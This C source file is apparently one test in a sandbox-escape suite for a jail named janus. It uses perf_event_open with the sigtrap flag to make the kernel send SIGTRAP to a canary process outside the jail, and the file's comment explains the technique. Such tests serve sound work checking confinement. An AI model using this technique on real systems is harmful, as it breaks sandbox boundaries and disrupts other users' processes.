/* e0507-perf-sigtrap - signal a process outside the jail through a perf
 * event.
 *
 * Attack: perf_event_open() on another process with attr.sigtrap makes
 * the kernel send SIGTRAP to that process each time the event overflows:
 * a signal no kill() shows.  Attaches a context-switch counter with
 * sample_period 1 to the canary (a process outside the jail that wakes
 * every 10 ms), then waits; the driver checks the canary lives.
 * Source: janus team (DESIGN.md "bypassing the tracer: perf_event_open";
 * "reaching outside: signals").
 * Usage: e0507-perf-sigtrap CANARY-PID */
#include <linux/perf_event.h>
#include <stdio.h>
#include <string.h>
#include <sys/syscall.h>
#include <unistd.h>

#include "escape.h"

int main(int argc, char **argv)
{
	esc_need_args(argc, 2, "e0507-perf-sigtrap CANARY-PID");
	struct perf_event_attr a;
	memset(&a, 0, sizeof a);
	a.size = sizeof a;
	a.type = PERF_TYPE_SOFTWARE;
	a.config = PERF_COUNT_SW_CONTEXT_SWITCHES;
	a.sample_period = 1;
	a.sigtrap = 1;
	a.remove_on_exec = 1;
	long fd = syscall(SYS_perf_event_open, &a, (int)esc_number(argv[1]), -1, -1,
			  PERF_FLAG_FD_CLOEXEC);
	esc_show_result("perf_event_open(sigtrap) on the canary", fd);
	if (fd >= 0) {
		usleep(300 * 1000);
		close((int)fd);
	}
	return 0;
}
